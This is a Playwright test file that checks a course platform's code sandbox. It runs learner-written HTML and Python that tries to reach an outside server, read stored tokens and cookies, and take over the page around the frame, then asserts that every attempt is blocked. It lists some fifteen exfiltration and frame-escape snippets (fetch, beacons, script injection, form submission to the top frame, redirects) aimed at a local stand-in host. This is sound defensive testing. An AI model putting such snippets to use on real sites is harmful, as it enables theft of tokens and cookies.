// Code that means harm, run in a lesson: it reaches neither a network nor the page around it, nor what the browser keeps.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { bringInCourse, front } from './course-folder.ts'
import { previewAddress } from './preview-address.ts'
import { type School, expect, test } from './school.ts'

// The browser says of each attempt why it was refused.
test.use({
  provoked: /Content Security Policy|sandbox|Blocked|refused|Failed to|denied|ERR_BLOCKED/i,
})

const course = {
  '1-chapter/index.md': front('name: Chapter\nsummary: Code.'),
  '1-chapter/1-page.md': `${front('title: Code to attack with\nminutes: 5\nsummary: A lesson.\npreview: true')}\`\`\`html run title="page.html"\n<p>Bread</p>\n\`\`\`\n\nText.\n\n\`\`\`python run title="code.py"\nprint(1)\n\`\`\`\n`,
}

/** Another site, which hears of whatever gets out. */
let elsewhere: Server
let address = ''
const heard: string[] = []

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('caught')
  })
  elsewhere.on('upgrade', (request, socket) => {
    heard.push(`socket ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  address = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
})
test.beforeEach(() => heard.splice(0))
test.afterAll(() => new Promise((resolve) => elsewhere.close(resolve)))

async function open(page: Page, school: School) {
  await bringInCourse(school, 'Attack course', course)
  await page.addInitScript(() => {
    if (location.protocol === 'http:' && window === top) localStorage.setItem('userToken', 'secret')
  })
  await page.goto(await previewAddress(school, 'Code to attack with'))
  const blocks = page.getByRole('group', { name: 'Code you can change and run' })
  await expect(blocks).toHaveCount(2)
  return { web: blocks.first(), python: blocks.last() }
}

const attempt = (what: string) => `try { ${what} } catch { }`

/** Each ends by itself: what leads the frame away is tried alone. */
const attempts: [string, (to: string) => string][] = [
  ['a call', (to) => `fetch('http://${to}/fetch').catch(() => {})`],
  [
    'a call without an answer',
    (to) => `fetch('http://${to}/blind', {mode: 'no-cors'}).catch(() => {})`,
  ],
  ['a beacon', (to) => `navigator.sendBeacon('http://${to}/beacon', 'x')`],
  ['a picture', (to) => `new Image().src = 'http://${to}/image'`],
  ['a socket', (to) => `new WebSocket('ws://${to}/socket')`],
  ['a stream', (to) => `new EventSource('http://${to}/stream')`],
  [
    'a script',
    (to) =>
      `const s = document.createElement('script'); s.src = 'http://${to}/script'; document.head.append(s)`,
  ],
  [
    'a style',
    (to) =>
      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://${to}/style'; document.head.append(l)`,
  ],
  [
    'a frame',
    (to) =>
      `const f = document.createElement('iframe'); f.src = 'http://${to}/frame'; document.body.append(f)`,
  ],
  [
    'a worker',
    (to) => `new Worker(URL.createObjectURL(new Blob(["fetch('http://${to}/worker')"])))`,
  ],
  ['a window', (to) => `open('http://${to}/window')`],
  ['the page itself', (to) => `top.location = 'http://${to}/top'`],
  ['the page around it', (to) => `parent.document.body.textContent = 'http://${to}'`],
  [
    'a form',
    (to) =>
      `const f = document.createElement('form'); f.action = 'http://${to}/form'; f.target = '_top'; document.body.append(f); f.submit()`,
  ],
  ['its own address', (to) => `location = 'http://${to}/location'`],
]

test('written HTML reaches no other site, and neither the page nor what the browser keeps', async ({
  page,
  school,
}) => {
  const { web } = await open(page, school)
  const here = page.url()
  const run = async (code: string) => {
    await web.getByLabel('page.html').fill(code)
    await web.getByRole('button', { name: 'Run' }).click()
  }

  const readable = [
    'localStorage.userToken',
    'sessionStorage.length',
    'document.cookie',
    'parent.localStorage.userToken',
    'top.document.title',
  ]
  const reading = readable.map((each) => attempt(`found.textContent += String(${each})`)).join(';')
  await run(`<p id="found"></p><script>${reading};found.textContent += 'done'</script>`)
  await expect(web.frameLocator('iframe').locator('#found')).toHaveText('done')

  for (const [what, code] of attempts) {
    await run(
      `<p id="here">${what}</p><script>${attempt(code(address))};here.textContent += ', tried'</script>`,
    )
    await page.waitForTimeout(200)
  }
  await run(`<meta http-equiv="refresh" content="0;url=http://${address}/refresh"><p>Refresh</p>`)
  await page.waitForTimeout(500)

  expect(heard).toEqual([])
  expect(page.url()).toBe(here)
  expect(page.context().pages()).toHaveLength(1)
  await expect(page.getByRole('heading', { level: 1, name: 'Code to attack with' })).toBeVisible()
  await run('<p>Still here</p>')
  await expect(web.frameLocator('iframe').getByText('Still here')).toBeVisible()
})

test('Python reaches no network', async ({ page, school }) => {
  const { python } = await open(page, school)
  const ask = (url: string) =>
    `request = js.XMLHttpRequest.new()\nrequest.open("GET", "${url}", False)\nrequest.send()`
  const output = python.getByRole('status', { name: 'What the code prints' })
  const asked: string[] = []
  page.on('requestfinished', (request) => asked.push(new URL(request.url()).pathname))

  for (const code of [
    ask(`http://${address}/python`),
    ask(`${school.address}/api/categories`),
    `js.WebSocket.new("ws://${address}/socket")`,
    `js.EventSource.new("http://${address}/stream")`,
  ]) {
    await python.getByLabel('code.py').fill(`import js\n${code}\nprint(request.responseText)`)
    await python.getByRole('button', { name: 'Run' }).click()
    await expect(output).toContainText(/Failed to|refused|NameError/)
  }

  expect(heard).toEqual([])
  expect(asked.every((path) => path.startsWith('/assets/'))).toBe(true)
})
